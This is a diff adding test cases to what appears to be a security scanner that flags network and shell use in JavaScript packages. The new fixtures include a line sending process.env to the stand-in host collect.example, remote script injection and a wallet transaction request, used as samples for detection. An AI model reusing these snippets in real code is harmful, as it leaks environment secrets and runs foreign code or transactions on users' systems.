@@ -84,6 +84,10 @@ SEEN = [
     ("an address imported before all", {"main": "index.mjs"}, {"index.mjs": f"import 'data:text/javascript,{quote(ESM)}';\n"}, ("net.http", "import")),
     ("a worker of text", MAIN, {"index.js": f'const {{Worker}} = require("worker_threads");\nnew Worker({json.dumps(POST)}, {{eval: true}});\n'}, ("net.http", "import")),
     ("a worker of an address", MAIN, {"index.js": f'const {{Worker}} = require("worker_threads");\nnew Worker(new URL("data:text/javascript,{quote(POST)}"));\n'}, ("net.http", "import")),
+    ("an image's address", MAIN, {"index.js": 'new Image().src = "https://collect.example/?" + JSON.stringify(process.env);\n'}, ("net.http", "import")),
+    ("a script's address", MAIN, {"index.js": 'const s = document.createElement("script");\ns.src = "https://collect.example/x.js";\n'}, ("net.http", "import")),
+    ("markup with an address", MAIN, {"index.js": 'document.write("<script src=https://collect.example/x.js></script>");\n'}, ("net.http", "import")),
+    ("a transaction asked of a wallet", MAIN, {"index.js": 'window.ethereum.request({method: "eth_sendTransaction", params: [{to: "0x1"}]});\n'}, ("net.http", "import")),
     ("process.dlopen", MAIN, {"index.js": 'process.dlopen(module, require("path").join(__dirname, "a.dat"));\n', "a.dat": elf(["system"])}, ("exec.shell", "import")),
     ("WebAssembly.instantiate", MAIN, {"index.js": 'const fs = require("fs");\nWebAssembly.instantiate(fs.readFileSync(require("path").join(__dirname, "a.wasm")), {});\n', "a.wasm": WASM}, ("net.socket", "import")),
     ("WebAssembly.Module", MAIN, {"index.js": 'const fs = require("fs");\nconst b = fs.readFileSync(__dirname + "/a.bin");\nnew WebAssembly.Instance(new WebAssembly.Module(b), {});\n', "a.bin": WASM}, ("net.socket", "import")),
@@ -108,6 +112,14 @@ def main():
         (tmp / name).write_bytes(data)
         d = report(program, tmp, tmp / name)
         check(("exec.shell", "import") in uses(d), "ctypes.CDLL of a file called .dat", d)
+        d = scan(program, tmp, MAIN, {"index.js": "", "lib/u.js": POST})
+        check(("net.http", "load") in uses(d), "a module that only its path loads", d)
+        d = scan(program, tmp, MAIN, {"index.js": "", "lib/u.js": "#!/usr/bin/env node\n" + POST})
+        check(("net.http", "command") in uses(d), "a script that no bin names", d)
+        d = scan(program, tmp, MAIN, {"index.js": "", "lib/u.js": "if (require.main === module) {" + POST + "}\n"})
+        check(("net.http", "command") in uses(d), "a main guard", d)
+        d = scan(program, tmp, MAIN, {"index.js": 'window.ethereum.request({method: "eth_accounts"});\ndocument.write("<b>");\n'})
+        check(not uses(d), "what a page may ask", d)
         d = scan(program, tmp, MAIN, {"index.js": 'require("./a.css");\n', "a.css": "body { color: red }\n.a .b { x: y; }\n"})
         check(d["verdict"] == "unreviewable" and d["coverage"]["gaps"], "what does not read as code stays a gap", d)
         d = scan(program, tmp, MAIN, {"index.js": "exports.x = 1;\n", "w.txt": POST})
